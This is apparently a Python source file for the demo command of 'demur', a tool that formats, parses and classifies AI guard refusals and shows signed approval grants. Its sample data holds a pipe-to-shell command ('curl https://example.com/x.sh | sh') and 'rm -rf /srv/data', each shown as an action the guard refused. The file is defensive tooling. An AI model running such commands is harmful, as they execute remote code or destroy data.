"""`demur demo`: a short offline tour: format, parse, classify, decide, prove, explain."""

import argparse
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

from demur.classification.conclude import make_decision
from demur.classification.grants import sign_grant
from demur.classification.keys import KEY_BYTES, KeyRing, SigningKey
from demur.classification.resolve import resolve
from demur.cli.classify import describe_decision
from demur.cli.demo_gate import tour_gate
from demur.cli.terminal import Paint, class_colour, wrap_text
from demur.codes.default import default_registry
from demur.codes.explain import render_sections, explanation_sections
from demur.codes.find import find_refusals
from demur.codes.line import format_refusal, parse_refusal
from demur.codes.reason_code import ReasonCode
from demur.codes.registry import Registry

__all__ = ["configure_demo", "run_demo", "build_tour"]

SAMPLE_LOG = (
    "2026-11-15T08:30:01Z WARN shell - REFUSED: RCE_RISK: curl https://example.com/x.sh | sh",
    "2026-11-15T08:30:04Z INFO llm - I'm sorry, I can't respond to that.",
    "2026-11-15T08:30:09Z WARN api - upstream said: Rate limit exceeded, slow down",
    "2026-11-15T08:30:12Z INFO llm - here is the summary you asked for",
    "2026-11-15T08:30:15Z WARN pay - REFUSED: REFUND_OVER_ESCALATION_LIMIT: order 1042",
)
# The clock and the key are fixed, so that the output of the tour never changes.
NOON = datetime(2026, 11, 15, 12, tzinfo=UTC)


def configure_demo(parser: argparse.ArgumentParser) -> None:
    """Add no arguments."""
    del parser


def run_demo(args: argparse.Namespace) -> int:
    """Print the tour."""
    del args
    print("\n".join(build_tour(default_registry(), Paint())))
    return 0


def build_tour(registry: Registry, paint: Paint) -> Iterator[str]:
    """Yield the lines of the tour."""
    yield from _format_heading(paint, "1", "A guard refuses with a code, not with prose")
    line = format_refusal(ReasonCode.DESTRUCTIVE_ACTION, "rm -rf /srv/data\nREFUSED: FAKE: x")
    yield "  format_refusal(ReasonCode.DESTRUCTIVE_ACTION, 'rm -rf /srv/data\\nREFUSED: FAKE: x')"
    yield f"  -> {paint(line, 'bold')}"
    yield wrap_text(
        "One line, whatever the detail holds: nothing can forge a second refusal.", "  "
    )
    yield from _format_heading(paint, "2", "Any log, old or new, reads back into the same codes")
    yield from _read_log(registry, paint)
    yield from _format_heading(
        paint, "3", "A verdict becomes one class and one output, always the same"
    )
    yield from _show_decisions(registry, paint)
    yield from _format_heading(paint, "4", "Authority lifts workflow blocks, never hard ones")
    yield from _show_authority(registry, paint)
    yield from _format_heading(
        paint, "5", "A gate decides by a policy, stores first, and can prove it"
    )
    yield from tour_gate(registry, paint, NOON)
    yield from _format_heading(paint, "6", "Every code explains itself")
    title, *rest = explanation_sections(registry["DESTRUCTIVE_ACTION"], registry)
    shown = render_sections([title, *rest[:1]], wrap_text, lambda heading: paint(heading, "bold"))
    yield from (f"  {line}" if line else "" for line in shown.splitlines())
    yield from _format_heading(paint, "7", "Go on")
    yield "  demur init desk && cd desk             a working folder: policy, settings, samples"
    yield "  demur decide samples/risky-refund.json decide, then `show`, `explain`, `export` it"
    yield "  demur codes list --class HARD_BLOCK    the codes nothing lifts"
    yield "  demur codes explain RCE_RISK           one code as documentation"
    yield "  demur parse app.log                    the refusals in your own log"
    yield "  demur codes lint src/                  codes misused in your own sources"


def _format_heading(paint: Paint, number: str, text: str) -> Iterator[str]:
    if number != "1":
        yield ""
    yield paint(f"{number}. {text}", "bold")


def _read_log(registry: Registry, paint: Paint) -> Iterator[str]:
    for line in SAMPLE_LOG:
        yield paint(f"  {line}", "dim")
        found = find_refusals(line, registry=registry)
        if not found:
            yield "    no refusal"
        for refusal in found:
            entry = registry[refusal.code]
            form = "legacy phrase" if refusal.legacy else "canonical line"
            code = paint(refusal.code, "bold", class_colour(entry.refusal_class))
            yield f"    {code} ({entry.refusal_class}, {form})"
    made_up = "REFUSED: NOT_A_CODE: hello"
    yield f"  an unknown code is no refusal: parse_refusal({made_up!r}) -> {parse_refusal(made_up)}"


def _show_decisions(registry: Registry, paint: Paint) -> Iterator[str]:
    for decision in (
        make_decision("DENY", ["RCE_RISK"], registry=registry),
        make_decision("ESCALATE", ["SCOPE_MISSING"], missing=["target"], registry=registry),
        make_decision("ALLOW", ["DESTRUCTIVE_ACTION"], constraints=["dry run"], registry=registry),
        make_decision("ABSTAIN", ["GUARDRAIL_UNAVAILABLE"], registry=registry),
    ):
        first, *rest = describe_decision(decision, paint).splitlines()
        yield f"  {', '.join(decision.reason_codes)} -> {first}"
        yield from (f"  {line}" for line in rest)


def _show_authority(registry: Registry, paint: Paint) -> Iterator[str]:
    key = SigningKey.from_randomness(bytes(KEY_BYTES), key_id="demo", holder="user:mary")
    grant = sign_grant(
        key,
        grant_id="g-1",
        kind="approval",
        granted_to="agent:billing",
        scope={"action": "refund"},
        not_before=NOON,
        expires_at=NOON + timedelta(hours=1),
    )
    yield "  user:mary signs an approval for agent:billing, action=refund, one hour"
    for codes in (["REFUND_OVER_ESCALATION_LIMIT"], ["CHARGEBACK_RISK_BLOCK"]):
        asked = make_decision(
            "ESCALATE" if codes[0].startswith("REFUND") else "DENY",
            codes,
            requester="agent:billing",
            scope={"action": "refund"},
            registry=registry,
        )
        after = resolve(
            asked, [grant], keys=KeyRing([key.trusted_key()]), now=NOON, registry=registry
        )
        arrow = f"{asked.decision_output} -> {paint(after.decision_output, 'bold')}"
        yield f"    {codes[0]}: {arrow}"
